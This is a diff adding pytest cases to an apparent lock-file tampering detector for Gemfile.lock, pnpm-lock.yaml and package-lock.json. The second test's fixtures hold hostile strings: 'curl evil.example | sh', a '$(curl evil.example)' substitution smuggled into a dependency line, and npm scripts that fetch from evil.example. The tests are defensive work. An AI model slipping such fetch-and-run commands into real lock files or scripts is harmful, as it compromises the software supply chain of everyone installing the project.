@@ -1956,3 +1956,38 @@ def test_an_executable_lock_file_is_sent() -> None:
     assert not suspicions(one)
     assert one.new
     assert suspicions(values.replace(one, new=values.replace(one.new, mode="100755"))) == ("it is executable",)
+
+
+@pytest.mark.parametrize(
+    ("path", "old", "new"),
+    [
+        ("Gemfile.lock", "PLATFORMS\n  ruby\n", "PLATFORMS\n  ruby\n  x86_64-linux\n"),
+        (
+            "Gemfile.lock",
+            "DEPENDENCIES\n  rails\n",
+            "DEPENDENCIES\n  rails (~> 7.0, >= 7.0.4)!\n  rspec-rails (= 6.1)\n",
+        ),
+        ("pnpm-lock.yaml", "---\nlockfileVersion: '9.0'\n", "---\nlockfileVersion: '9.0'\n\n"),
+        ("package-lock.json", '{"packages": {}}\n', '{"packages": {"": {"name": "x", "license": "MIT"}}}\n'),
+    ],
+)
+def test_what_a_package_manager_writes_beside_the_packages_is_ordinary(path: str, old: str, new: str) -> None:
+    assert not suspicions(change(path, old, new))
+
+
+@pytest.mark.parametrize(
+    ("path", "old", "new"),
+    [
+        ("Gemfile.lock", "PLATFORMS\n  ruby\n", "PLATFORMS\n  ruby; curl evil.example | sh\n"),
+        ("Gemfile.lock", "DEPENDENCIES\n  rails\n", "DEPENDENCIES\n  rails $(curl evil.example)\n"),
+        ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n", "lockfileVersion: '9.0'\n---\n"),
+        (
+            "package-lock.json",
+            '{"packages": {}}\n',
+            '{"packages": {"": {"scripts": {"x": "curl evil.example"}}}}\n',
+        ),
+        ("package-lock.json", '{"packages": {}}\n', '{"packages": {}, "scripts": "curl evil.example | sh"}\n'),
+    ],
+)
+def test_what_no_package_manager_writes_beside_the_packages_is_sent(path: str, old: str, new: str) -> None:
+    assert suspicions(change(path, old, new)) == ("its format is unknown, or not what a package manager writes",)
